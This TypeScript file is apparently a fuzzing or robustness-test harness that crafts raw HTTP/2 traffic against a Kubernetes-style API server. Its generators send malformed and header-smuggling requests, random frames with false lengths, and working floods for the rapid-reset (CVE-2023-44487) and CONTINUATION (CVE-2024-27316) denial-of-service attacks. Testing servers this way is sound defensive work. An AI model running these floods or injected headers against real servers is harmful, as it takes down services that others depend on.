import type { Draws } from "../draws";
import { configMapOf, type MakeAttack, noise } from "./attack";

const [data, headers, priority, reset, settings, pushPromise, ping, goAway, windowUpdate, continuation] = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9];
const [endStream, endHeaders, padded, withPriority] = [0x1, 0x4, 0x8, 0x20];

/** A frame of RFC 9113, section 4.1; its length may be a lie. */
function frame(type: number, flags: number, stream: number, payload: Uint8Array, length = payload.length): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const preface = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(settings, 0, 0, Buffer.alloc(0))]);

/** A whole number with a prefix of seven bits: RFC 7541, section 5.1. */
function integer(value: number): Buffer {
  if (value < 127) return Buffer.of(value);
  const bytes = [127];
  let rest = value - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 128);
  return Buffer.from([...bytes, rest]);
}

const text = (value: string) => Buffer.concat([integer(Buffer.byteLength(value, "latin1")), Buffer.from(value, "latin1")]);
/** Header fields as literals that are not kept. */
const fields = (list: readonly (readonly [string, string])[]) =>
  Buffer.concat(list.map(([name, value]) => Buffer.concat([Buffer.of(0), text(name), text(value)])));

const asked = (path: string, method = "POST") =>
  [
    [":method", method],
    [":scheme", "https"],
    [":path", path],
    [":authority", "a"],
  ] as const;

/** What makes a request malformed by RFC 9113, sections 8.2 and 8.3. */
const wrong: readonly ((list: readonly (readonly [string, string])[]) => readonly (readonly [string, string])[])[] = [
  (list) => [...list, [":path", "/version"]],
  (list) => [["accept", "*/*"], ...list],
  (list) => list.filter(([name]) => name !== ":method"),
  (list) => list.filter(([name]) => name !== ":path"),
  (list) => list.filter(([name]) => name !== ":scheme"),
  (list) => [...list, [":status", "200"]],
  (list) => [...list, [":protocol", "websocket"]],
  (list) => [...list, ["Content-Type", "application/json"]],
  (list) => [...list, ["connection", "close"]],
  (list) => [...list, ["transfer-encoding", "chunked"]],
  (list) => [...list, ["te", "gzip"]],
  (list) => [...list, ["content-length", "1"]],
  (list) => [...list, ["content-length", "-1"]],
  (list) => [...list, ["content-length", "5"], ["content-length", "6"]],
  (list) => [...list, ["x", "a".repeat(200_000)]],
];

/** Fields that Node's HTTP/2 leaves out, as if they had not been sent, and serves the rest. */
const leftOut: typeof wrong = [(list) => [...list, ["x", "a\r\nb: c"]], (list) => [...list, ["x\u0000", "a"]]];

/** A request to write something that is malformed: an error of the stream or of the connection, and nothing written. */
export const malformed: MakeAttack = (draws, { namespace }, writes) => {
  const mayWrite = draws.oneIn(10);
  const ways = mayWrite ? leftOut : wrong;
  const way = draws.below(ways.length);
  const list = ways[way]!(asked(`/api/v1/namespaces/${namespace}/configmaps`));
  const block = fields(list);
  const blocks: Buffer[] = [];
  for (let at = 0; at < block.length; at += 16_000)
    blocks.push(frame(at === 0 ? headers : continuation, at + 16_000 >= block.length ? endHeaders : 0, 1, block.subarray(at, at + 16_000)));
  const pieces = [Buffer.concat([preface, ...blocks, frame(data, endStream, 1, Buffer.from(configMapOf(writes)))])];
  return { name: `malformed ${way}`, alpn: "h2", pieces, writes, mayWrite };
};

const lengths = [0, 1, 4, 5, 6, 8, 9, 16_384, 16_385, 0xffffff];

/** Frames that make no sense one after the other, and lie about their lengths. */
export const frames: MakeAttack = (draws, _target, writes) => {
  const made = Array.from({ length: 1 + draws.below(12) }, () => oneFrame(draws));
  return {
    name: "frames",
    alpn: "h2",
    pieces: [Buffer.concat([draws.oneIn(8) ? noise(draws, 40) : preface, ...made])],
    writes,
    mayWrite: false,
  };
};

function oneFrame(draws: Draws): Buffer {
  const type = draws.of([
    data,
    headers,
    priority,
    reset,
    settings,
    pushPromise,
    ping,
    goAway,
    windowUpdate,
    continuation,
    draws.below(256),
  ]);
  const flags = draws.oneIn(2) ? draws.below(256) : draws.of([0, endStream, endHeaders, endStream | endHeaders, padded, withPriority]);
  const stream = draws.of([0, 1, 2, 3, 5, 0x7fffffff, 0xffffffff, draws.below(20)]);
  const payload =
    type === headers && !draws.oneIn(3) ? fields(asked(draws.of(["/version", "/api/v1/pods?watch=1", "*"]), "GET")) : noise(draws, 64);
  return frame(type, flags, stream, payload, draws.oneIn(3) ? draws.of(lengths) : payload.length);
}

/** Many streams begun and reset at once (CVE-2023-44487), or a header block that never ends (CVE-2024-27316). */
export const flood: MakeAttack = (draws, _target, writes) => {
  const begin = fields(asked("/api/v1/pods?watch=1", "GET"));
  const rapid = () =>
    Array.from({ length: 300 }, (_, n) =>
      Buffer.concat([frame(headers, endHeaders | endStream, 2 * n + 1, begin), frame(reset, 0, 2 * n + 1, Buffer.of(0, 0, 0, 8))]),
    );
  const endless = () => [
    frame(headers, 0, 1, begin),
    ...Array.from({ length: 200 }, () => frame(continuation, 0, 1, fields([["x", "a".repeat(4_000)]]))),
  ];
  const pings = () => Array.from({ length: 2_000 }, () => frame(ping, 0, 0, Buffer.alloc(8)));
  const changes = () => Array.from({ length: 2_000 }, () => frame(settings, 0, 0, Buffer.of(0, 3, 0, 0, 0, 100)));
  const way = draws.of([rapid, endless, pings, changes]);
  return { name: `flood of ${way.name}`, alpn: "h2", pieces: [Buffer.concat([preface, ...way()])], writes, mayWrite: false };
};
